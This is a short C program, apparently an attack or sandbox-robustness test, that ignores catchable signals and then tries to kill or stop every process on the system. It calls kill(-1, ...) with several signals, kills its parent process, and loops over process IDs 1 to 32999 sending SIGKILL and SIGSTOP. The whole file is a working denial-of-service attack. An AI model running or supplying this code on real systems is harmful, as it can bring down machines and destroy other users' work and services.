#include "attack.h"
int main(void) {
    for (int number = 1; number < 65; number++)
        if (number != SIGKILL && number != SIGSTOP) signal(number, SIG_IGN);
    kill(-1, SIGTERM), kill(-1, SIGINT), kill(-1, SIGSTOP), kill(-1, SIGKILL);
    kill(getppid(), SIGKILL), kill(0, SIGUSR1);
    for (int pid = 1; pid < 33000; pid++)
        if (pid != getpid()) kill(pid, SIGKILL), kill(pid, SIGSTOP);
    puts("tried");
    return 0;
}
